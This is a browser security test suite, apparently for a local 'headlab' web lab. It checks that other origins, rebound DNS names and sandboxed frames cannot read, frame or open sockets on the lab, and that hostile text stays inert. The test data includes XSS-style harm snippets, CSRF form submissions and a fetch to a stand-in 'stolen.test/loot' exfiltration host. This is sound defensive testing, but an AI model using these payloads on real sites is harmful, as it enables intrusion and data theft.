"""The lab in a browser full of bad company: what other sites, rebound names and sandboxed frames can do to it, which is
nothing, and what hostile text does in its page, which is to be shown.

Every refusal has its control beside it: the same attempt, by somebody who may, succeeds.
"""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace
from typing import ClassVar
from urllib.parse import urlsplit

import pytest
from browsing import CHROMIUM, NEEDED, PATIENCE, running_lab
from hostile import ENCODED, HALVES, HOSTILE, MARKUP, STOLEN
from tiers import sized

from headlab.errors import ConfigError
from headlab.lab.experiment import Experiment, notebook_fields

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = NEEDED

NAME = "evil.test"  # the browser takes it and STOLEN for this machine; whatever comes to STOLEN is loot


# The company


class Elsewhere(ThreadingHTTPServer):
    """Another server on this machine, which welcomes everything and remembers it."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Welcome)
        self.log = []

    def handle_error(self, request, client_address):
        """Say nothing: browsers hang up."""

    def at(self, name, path="/"):
        return f"http://{name}:{self.server_port}{path}"

    def asked(self, path):
        return [entry for entry in self.log if entry.path == path]


class Welcome(BaseHTTPRequestHandler):
    kinds: ClassVar = {"js": ("text/javascript", "globalThis.loaded = 1"), "css": ("text/css", "b { color: red }")}

    def answer(self):
        body = self.rfile.read(int(self.headers.get("content-length", 0)))
        self.server.log.append(
            SimpleNamespace(path=self.path, headers=self.headers, body=body.decode("utf-8", "replace"))
        )
        kind, text = self.kinds.get(self.path.rpartition(".")[2], ("text/html", "<!doctype html><p>welcome"))
        self.send_response(200)
        self.send_header("content-type", kind)
        if self.path.startswith("/open"):
            self.send_header("access-control-allow-origin", self.headers.get("origin", "*"))
            self.send_header("access-control-allow-credentials", "true")
        self.end_headers()
        self.wfile.write(text.encode())

    do_GET = do_POST = answer

    def log_message(self, *arguments):
        pass


@pytest.fixture(scope="module")
def elsewhere():
    with Elsewhere() as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join(10)


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    said = tmp_path_factory.mktemp("lab") / "said.txt"
    with said.open("w") as errors, running_lab(errors) as address:
        origin, _, token = address.partition("/#token=")
        port = urlsplit(origin).port
        yield SimpleNamespace(
            address=address, origin=origin, token=token, port=port, said=said, cookie=f"headlab_{port}"
        )


@pytest.fixture(scope="module")
def browser(elsewhere):
    rules = f"MAP {NAME} 127.0.0.1, MAP {STOLEN} 127.0.0.1:{elsewhere.server_port}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
    own_shield = (
        "--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets"  # not every browser has it
    )
    arguments = ["--no-sandbox", "--disable-background-networking", own_shield, f"--host-resolver-rules={rules}"]
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield browser
        browser.close()


class Watched:
    """A page of the lab, and everything that went wrong on it or was asked by it."""

    def __init__(self, page, among):
        self.page, self.wrong, self.asked = page, [], []
        page.set_default_timeout(PATIENCE)
        page.on("pageerror", lambda error: self.wrong.append(f"error: {error}"))
        page.on("console", self.hear)
        page.on("dialog", self.dismiss)
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("websocket", lambda socket: self.asked.append(socket.url))
        among.append(self)

    def hear(self, message):
        if message.type == "error" or "Content Security Policy" in message.text:
            self.wrong.append(f"console: {message.text}")

    def dismiss(self, dialog):
        self.wrong.append(f"dialog: {dialog.message}")
        dialog.dismiss()


@pytest.fixture(scope="module")
def pages():
    """All pages of the lab that were open and watched in this module."""
    return []


@pytest.fixture(scope="module")
def victim(browser, lab, pages):
    """A page of the lab as its user has it open, in a context that others share."""
    context = browser.new_context()
    watched = Watched(context.new_page(), pages)
    watched.page.goto(f"{lab.address}&steps=1")
    watched.page.wait_for_selector("button.word")
    watched.files = watched.page.evaluate(
        "[document.querySelector('script[src]').src, document.querySelector('link[rel=stylesheet]').href]"
    )
    yield watched
    context.close()


@pytest.fixture
def fresh(victim, lab, pages):
    """One more page of the lab, for what may break it."""
    watched = Watched(victim.page.context.new_page(), pages)
    watched.page.goto(f"{lab.origin}/#steps=1")
    watched.page.wait_for_selector("button.word")
    yield watched
    watched.page.close()


@pytest.fixture(scope="module")
def insider(victim, lab):
    """Another page of the lab in the same context: it may do what the others may not."""
    page = victim.page.context.new_page()
    page.goto(f"{lab.origin}/#steps=1")
    return page


KINDS = ("another name", "another port", "a file", "a sandboxed frame")


@pytest.fixture(params=KINDS, ids=[kind.replace(" ", "_") for kind in KINDS])
def intruder(request, victim, elsewhere, tmp_path):
    """A page of somebody else, as a frame that runs what it is told; the lab is open in the same browser."""
    page = victim.page.context.new_page()
    page.set_default_timeout(PATIENCE)
    file = tmp_path / "page.html"
    file.write_text("<!doctype html><p>a file")
    homes = {"another port": elsewhere.at("127.0.0.1"), "a file": file.as_uri()}
    page.goto(homes.get(request.param, elsewhere.at(NAME)))
    frame = page.main_frame
    if "frame" in request.param:
        frame = framed(page, sandboxed="sandboxed" in request.param)
    frame.kind = request.param
    yield frame
    page.close()


def framed(page, sandboxed):
    given = (
        {"sandbox": "allow-scripts allow-forms", "srcdoc": "<p>here"} if sandboxed else {"src": "data:text/html,here"}
    )
    page.evaluate(
        """given => new Promise(done => {
            const frame = Object.assign(document.createElement('iframe'), {onload: done})
            for (const [name, value] of Object.entries(given)) frame.setAttribute(name, value)
            document.body.append(frame)
        })""",
        given,
    )
    frame = page.frames[-1]
    assert frame.evaluate("self.origin") == "null"
    return frame


# What they try; each answers what it got

READ = """asked => Promise.all(asked.map(async ([url, options]) => {
    try {
        const answer = await fetch(url, {credentials: 'include', ...options})
        return [answer.type, answer.status, await answer.text()]
    } catch { return null }
}))"""

HEAR = """urls => Promise.all(urls.map(url => new Promise(done => {
    const socket = new WebSocket(url)
    let opened = false
    socket.onopen = () => { opened = true }
    socket.onmessage = () => { socket.close(); done('heard') }
    socket.onclose = () => done(opened ? 'opened' : 'refused')
})))"""

LOAD = """async ([script, style]) => {
    const tag = (name, given) => new Promise(done => {
        const ends = {onload: () => done(true), onerror: () => done(false)}
        document.head.append(Object.assign(document.createElement(name), given, ends))
    })
    return Promise.all([
        tag('script', {src: script}),
        tag('script', {src: script, type: 'module', crossOrigin: 'use-credentials'}),
        tag('link', {rel: 'stylesheet', href: style}),
        tag('link', {rel: 'preload', as: 'script', href: script}),
        import(script).then(() => true, () => false),
    ])
}"""

FRAME = """url => Promise.all(['iframe', 'object', 'embed'].map(name => new Promise(done => {
    const frame = Object.assign(document.createElement(name), {onload: done, onerror: done})
    if (name !== 'iframe') frame.type = 'text/html'
    frame[name === 'object' ? 'data' : 'src'] = url
    document.body.append(frame)
}))).then(() => 1)"""

SUBMIT = """([url, encoding, target, fields]) => {
    if (!target) {
        target = `answer${document.forms.length}` // a frame of its own for each
        document.body.append(Object.assign(document.createElement('iframe'), {name: target}))
    }
    const form = Object.assign(document.createElement('form'), {method: 'post', action: url, enctype: encoding, target})
    for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), {name, value}))
    document.body.append(form)
    form.submit()
}"""


def socket_of(lab, name="127.0.0.1"):
    return f"ws://{name}:{lab.port}/live"


# Other sites


def test_another_site_reads_no_route_in_any_mode(intruder, insider, lab, victim, elsewhere):
    ways = [{"method": method, "mode": mode} for method in ("GET", "POST", "HEAD") for mode in ("cors", "no-cors")]
    ways.append({"method": "POST", "headers": {"X-Headlab-Token": lab.token}})
    urls = [*(f"{lab.origin}{path}" for path in ("/", "/session", "/live", "/none")), *victim.files]
    asked = [[url, way] for url in urls for way in ways]
    assert intruder.evaluate(READ, asked) == [None] * len(asked)
    assert [found[1] for found in insider.evaluate(READ, [[url, {}] for url in urls])] == [200, 405, 404, 404, 200, 200]
    assert insider.evaluate(READ, [[urls[1], ways[-1]]]) == [["basic", 204, ""]]
    welcome = [[elsewhere.at(STOLEN, "/open"), {}], [elsewhere.at(STOLEN), {"mode": "no-cors"}]]
    assert intruder.evaluate(READ, welcome) == [["cors", 200, "<!doctype html><p>welcome"], ["opaque", 0, ""]]


def submitted(frame, url, encoding, target=None):
    fields = {"ask": "show", "X-Headlab-Token": "guessed"}
    with frame.page.expect_response(lambda answer: answer.url == url) as answered:
        frame.evaluate(SUBMIT, [url, encoding, target, fields])
    assert answered.value.request.method == "POST"
    return answered.value.status, "set-cookie" in answered.value.headers


def test_a_form_on_another_site_gets_nothing_in(intruder, lab, elsewhere):
    before = intruder.page.context.cookies()
    for number, encoding in enumerate(("text/plain", "application/x-www-form-urlencoded", "multipart/form-data")):
        path = f"/form/{KINDS.index(intruder.kind)}/{number}"
        assert submitted(intruder, elsewhere.at(STOLEN, path), encoding) == (200, False)
        assert "show" in elsewhere.asked(path)[0].body
        for path in ("/session", "/"):
            assert submitted(intruder, lab.origin + path, encoding) == (403, False)
    if intruder.parent_frame is None:
        assert submitted(intruder, lab.origin + "/", "text/plain", "_self") == (403, False)
    assert intruder.page.context.cookies() == before


def test_another_site_opens_no_socket_not_even_with_the_labs_cookie(intruder, insider, lab, elsewhere):
    assert (
        intruder.evaluate(HEAR, [socket_of(lab), socket_of(lab, "localhost"), socket_of(lab, NAME)]) == ["refused"] * 3
    )
    assert insider.evaluate(HEAR, [socket_of(lab)]) == ["heard"]
    # What the browser sends along to this host is seen by whoever else listens there: ports do not part cookies.
    path = f"/socket/{intruder.kind}".replace(" ", "-")
    intruder.evaluate(HEAR, [f"ws://127.0.0.1:{elsewhere.server_port}{path}"])
    carried = lab.cookie in elsewhere.asked(path)[0].headers.get("cookie", "")
    assert carried is (intruder.kind == "another port")


def test_another_site_cannot_frame_the_lab(intruder, lab, elsewhere):
    for url, shown in ((lab.origin + "/", 0), (elsewhere.at(STOLEN), 3)):
        intruder.evaluate(FRAME, url)
        assert [frame.url for frame in intruder.page.frames].count(url) == shown


def test_the_labs_scripts_and_styles_load_on_no_other_site(intruder, victim, elsewhere):
    assert intruder.evaluate(LOAD, victim.files) == [False] * 5
    files = [elsewhere.at(STOLEN, f"/open.{kind}") for kind in ("js", "css")]
    assert intruder.evaluate(LOAD, files) == [True] * 5


@pytest.mark.parametrize("intruder", ["another name", "another port", "a file"], indirect=True)
def test_a_window_that_another_site_opens_is_out_of_its_reach(intruder, lab, elsewhere):
    for url, lost in ((elsewhere.at(STOLEN), False), (lab.origin + "/#steps=1", True)):
        with intruder.page.context.expect_page() as opened:
            intruder.evaluate("url => { globalThis.opened = open(url) }", url)
        opened.value.wait_for_load_state()
        assert (opened.value.url.partition("#")[0], opened.value.evaluate("opener === null")) == (
            url.partition("#")[0],
            lost,
        )
        assert intruder.evaluate("opened.closed") is lost
        opened.value.close()


# A rebound name


def test_a_rebound_name_is_refused_even_with_the_token(browser, lab, insider, elsewhere):
    here = f"http://{NAME}:{lab.port}"
    context = browser.new_context()
    context.add_cookies([{"name": lab.cookie, "value": lab.token, "url": here}])
    page = context.new_page()
    answer = page.goto(here)
    assert (answer.status, answer.text()) == (403, "Refused: this server answers to its own address only.\n")
    assert page.goto(elsewhere.at(NAME)).status == 200  # the name leads here
    # As after rebinding: a page that came from the name's first address, with whatever script and no policy.
    page.route(here + "/bait", lambda route: route.fulfill(content_type="text/html", body="<!doctype html><p>bait"))
    page.goto(here + "/bait")
    ways = [[here + path, {}] for path in ("/", "/live", "/none")]
    ways.append([here + "/session", {"method": "POST", "headers": {"X-Headlab-Token": lab.token}}])
    assert [(kind, status) for kind, status, _ in page.evaluate(READ, ways)] == [("basic", 403)] * 4
    assert page.evaluate(HEAR, [socket_of(lab, NAME), socket_of(lab)]) == ["refused"] * 2
    context.close()
    at_home = [[url.replace(NAME, "127.0.0.1"), way] for url, way in ways]
    assert [found[1] for found in insider.evaluate(READ, at_home)] == [200, 404, 404, 204]
    assert insider.evaluate(HEAR, [socket_of(lab)]) == ["heard"]


# The token


def test_without_the_token_the_socket_is_refused(browser, lab, insider):
    for token, said in (
        ("", "does not answer"),
        ("#token=guessed", "no longer valid"),
        (f"#token={lab.token}x", "no longer"),
    ):
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"{lab.origin}/{token}")
        playwright.expect(page.get_by_role("alert")).to_contain_text(said)
        assert page.evaluate(HEAR, [socket_of(lab)]) == ["refused"]
        assert "token" not in page.url
        assert page.locator("textarea").count() == len(context.cookies()) == 0
        context.close()
    assert insider.evaluate(HEAR, [socket_of(lab)]) == ["heard"]


def test_the_token_leaves_the_address_for_a_cookie_that_no_script_reads(victim, lab):
    (cookie,) = victim.page.context.cookies(lab.origin)
    assert (cookie["name"], cookie["value"]) == (lab.cookie, lab.token)
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["domain"]) == (True, "Strict", "127.0.0.1")
    places = (
        "[location.href, document.cookie, document.documentElement.outerHTML, JSON.stringify([{...localStorage}, "
        "{...sessionStorage}, history.state, navigation.entries().map(entry => entry.url)])]"
    )
    found = victim.page.evaluate(places)
    assert found[1] == ""
    assert not [place for place in found if lab.token in place]
    victim.page.evaluate("token => { document.cookie = `seen=${token}` }", lab.token)
    assert lab.token in victim.page.evaluate(places)[1]  # a cookie that scripts may read would have been found
    victim.page.context.clear_cookies(name="seen")


# Hostile text


def test_the_hostile_texts_are_many_and_all_different():
    assert len(set(HOSTILE)) == len(HOSTILE) > 150


# Set every typed number and go to an address, as often as told, or set the sentences; wait for what must be shown; say how
# the page is then. An address is set with its event at once, as the page writes its own address a moment after each change.
TRY = """async given => {
    const {typed, addresses, sentences, text, words, problems, patience} = JSON.parse(given)
    const area = document.querySelector('textarea')
    const set = (field, value, ...events) => {
        field.value = value
        for (const name of events) field.dispatchEvent(new Event(name, {bubbles: true}))
    }
    const inputs = new Set()
    for (const address of addresses) {
        for (const input of typed === null ? [] : document.querySelectorAll('input:not([type=range], [type=checkbox])')) {
            inputs.add(input.id)
            set(input, typed, 'input', 'change')
        }
        history.replaceState(null, '', '#' + new URLSearchParams(address))
        dispatchEvent(new HashChangeEvent('hashchange'))
        await new Promise(done => setTimeout(done))
    }
    if (sentences !== null) set(area, sentences, 'input')

    const textOf = name => Array.from(document.querySelectorAll(name), element => element.textContent)
    const shown = () => {
        if (area.value !== text) return false
        const alerts = textOf('[role=alert]').join(' ')
        if (problems.length) return problems.every(problem => alerts.includes(problem))
        const chips = textOf('.chip')
        return alerts.trim() === '' && chips.length === words.length && chips.every((chip, at) => chip === words[at])
    }
    const end = performance.now() + patience
    while (!shown() && performance.now() < end) await new Promise(done => setTimeout(done, 4))

    const suspects = [
        'script', 'img', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'form', 'video', 'audio', 'style', 'body',
        'math', 'marquee', 'template', 'noscript', 'foreignObject', 'animate', 'set', 'use', 'image', 'a', 'x', 'frame',
        'isindex']
    const risky = ['href', 'src', 'srcset', 'srcdoc', 'data', 'action', 'formaction', 'poster', 'xlink:href', 'http-equiv']
    const every = [...document.querySelectorAll('*')]
    return {
        answered: shown(),
        inputs: [...inputs],
        page: {
            ran: '__pwned' in window,
            polluted: [...Object.keys(Object.prototype), ...Object.keys(Array.prototype)],
            elements: suspects.map(name => `${document.querySelectorAll(name).length} ${name}`),
            handlers: every.flatMap(element => element.getAttributeNames()).filter(name => name.startsWith('on')),
            links: every.flatMap(element => risky.map(name => element.getAttribute(name)).filter(value => value !== null)),
            title: document.title,
        },
    }
}"""


def answer_to(fields):
    """What the page must show for an experiment: its text, and its words or the problems."""
    text = fields["text"].replace("\r\n", "\n").replace("\r", "\n")  # as every textarea keeps it
    try:
        experiment = Experiment.of({"steps": 1, **fields})
    except ConfigError as error:
        return {"text": text, "words": [], "problems": list(map(str, error.problems))}
    return {"text": text, "words": [word for words in experiment.corpus.sentences for word in words], "problems": []}


class Trials:
    """One hostile text after the other, and what each did to the page."""

    def __init__(self, watched, patience=PATIENCE):
        self.watched, self.patience, self.harm, self.inputs, self.calm = watched, patience, {}, set(), {}
        self.calm = self.ask("", {"text": "a calm start"}, [{}])

    def ask(self, hostile, fields, ways=(), typed=None):
        """Set the sentences, or go to addresses, the last of which has `fields`; wait for the answer; return how the page is."""
        given = {
            "typed": typed,
            "patience": self.patience,
            "sentences": None if ways else fields["text"],
            **answer_to(fields),
        }
        given["addresses"] = [{"steps": 1, **fields, **way} for way in ways]
        found = self.watched.page.evaluate(TRY, json.dumps(given))
        self.inputs |= set(found["inputs"])
        wrong, now = self.watched.wrong[:], found["page"]
        self.watched.wrong.clear()
        wrong += [] if found["answered"] else [f"no answer to {fields}"[:300]]
        wrong += [f"{name}: {now[name]}" for name, value in self.calm.items() if now[name] != value]
        if wrong:
            self.harm[ascii(hostile)[:60]] = wrong
        return now

    def end(self):
        """Return all harm, once the page has shown something harmless again."""
        self.ask("the end", {"text": "a calm end"}, [{}])
        return self.harm


@pytest.mark.parametrize("every", sized(4, 1))
def test_hostile_sentences_are_words_and_nothing_else(victim, every):
    trials = Trials(victim)
    for number, text in enumerate(HOSTILE[::every]):  # a dependency each, so that the explanation shows the words too
        trials.ask(text, {"text": f"n{number} {text} ends\nm{number} {text} closes"})
    assert trials.end() == {}


@pytest.mark.parametrize("every", sized(4, 1))
def test_hostile_numbers_and_addresses_are_values_and_nothing_else(victim, every):
    trials = Trials(victim)
    for number, text in enumerate(HOSTILE[::every]):
        words = {"text": f"n{number} {text} ends", "unembed": True}
        trials.ask(text, words, [{"hide": text, "output": text}])
        refused = {**words, "optimizer": text, "loss": text, "schedule": text, "start": text}
        trials.ask(text, refused, [{"optimizer": "adamw"}, {}], typed=text)  # momentum is typed into, then weight decay
    assert {"seed", "d_head", "learning_rate", "momentum", "weight_decay", "steps", "d_model"} <= trials.inputs
    assert trials.end() == {}


@pytest.mark.parametrize(
    "name", ["seed", "d_head", "learning_rate", "steps", "n_heads", "n_layers", "init_scale", "momentum", "fork"]
)
def test_a_number_that_makes_no_sense_is_answered_in_a_sentence(victim, name):
    trials = Trials(victim)
    for value in (-1, -0.5, 10**20, -1e308):
        trials.ask(f"{name}={value}", {"text": f"{name} is {value}", name: value}, [{}])
    assert trials.end() == {}


@pytest.mark.parametrize(
    "text", [*MARKUP[::6], *ENCODED[:18:6], "a+b&text=c+d", "%", "x%00y+z&&&=&token=", "a+b&__proto__=5&toString=x"]
)
def test_a_raw_address_is_taken_as_it_comes(fresh, lab, text):
    fresh.page.goto("about:blank")
    fresh.page.goto(f"{lab.origin}/#steps=1&text={text}")
    fresh.page.wait_for_selector("button.word, [role=alert] li")
    assert Trials(fresh).end() == {}


NONSENSE = [
    {"moment": 0.5}, {"against": 0.5}, {"query": 0.5}, {"sequence": 0.5}, {"layer": 0.5, "n_layers": 3}, {"moment": "1e99"},
    {"learning_rate": 1e30, "steps": 20}, {"init_scale": 1e308}, {"learning_rate": 1e308, "steps": 60}, {"d_model": 3},
    {"fork": 3, "before": "[", "steps": 60}, {"optimizer": "x", "hide": "optimizer"},
]  # fmt: skip


@pytest.mark.parametrize("way", NONSENSE, ids=str)
def test_an_address_that_makes_no_sense_is_answered_in_a_sentence(fresh, way):
    trials = Trials(fresh)
    settings = {name: value for name, value in way.items() if name in notebook_fields()}
    trials.ask(str(way), {"text": "a b", **settings}, [way])
    assert trials.harm == {}


@pytest.mark.parametrize("text", HALVES, ids=ascii)
def test_half_a_character_is_answered_in_a_sentence(fresh, text):
    trials = Trials(fresh)
    trials.ask(text, {"text": f"n {text} ends"})
    assert trials.end() == {}


# That these tests would see it


HARM = """() => {
    window.__pwned = 1
    Object.prototype.pwned = 1
    document.body.append(Object.assign(document.createElement('img'), {alt: 'x'}))
    const blessed = trustedTypes.createPolicy('harm', {createScript: text => text})
    document.body.setAttribute('onclick', blessed.createScript('x'))
    document.body.append(Object.assign(document.createElement('a'), {href: 'javascript:1'}))
    document.title = 'x'
    fetch('//stolen.test/loot').catch(() => 0)
    setTimeout(() => { throw new Error('x') })
    setTimeout(() => alert(1))
}"""


def test_harm_on_the_labs_page_would_be_seen(fresh):
    trials = Trials(fresh)
    fresh.page.evaluate(HARM)
    seen = json.dumps(trials.end())
    for kind in (
        "ran",
        "polluted",
        "elements",
        "handlers",
        "links",
        "title",
        "Content Security Policy",
        "error: x",
        "dialog: 1",
    ):
        assert kind in seen


def test_all_this_time_the_lab_asked_nobody_but_itself(victim, lab, pages, elsewhere):
    asked = [urlsplit(url) for watched in pages for url in watched.asked]
    assert {f"{url.scheme}://{url.netloc}" for url in asked} == {lab.origin, lab.origin.replace("http", "ws")}
    assert not [entry.path for entry in elsewhere.log if entry.path.startswith("/loot")]
    said = lab.said.read_text()
    assert "Traceback" not in said
    assert lab.token not in said


def test_a_request_to_somebody_else_would_be_seen(browser, elsewhere):
    watched = Watched(browser.new_page(), [])
    watched.page.goto(elsewhere.at(NAME))
    watched.page.evaluate(READ, [[elsewhere.at(STOLEN), {"mode": "no-cors"}]])
    assert watched.asked == [elsewhere.at(NAME), elsewhere.at(STOLEN)]
    watched.page.close()


def test_the_hostile_texts_do_harm_where_text_is_taken_for_markup(browser, elsewhere):
    page = browser.new_page()
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.goto(elsewhere.at(NAME))
    ran = page.evaluate(
        """async texts => {
            const frames = texts.map(srcdoc => Object.assign(document.createElement('iframe'), {srcdoc}))
            document.body.append(...frames)
            const hurt = frame => {
                try { return '__pwned' in frame.contentWindow } catch { return false } // it has gone elsewhere
            }
            const ran = () => frames.filter(hurt).length
            const end = performance.now() + 10000
            while (ran() <= 10 && performance.now() < end) await new Promise(done => setTimeout(done, 50))
            return ran()
        }""",
        HOSTILE,
    )
    page.close()
    assert ran > 10
    assert len({entry.path for entry in elsewhere.log if entry.path.startswith("/loot")}) > 3
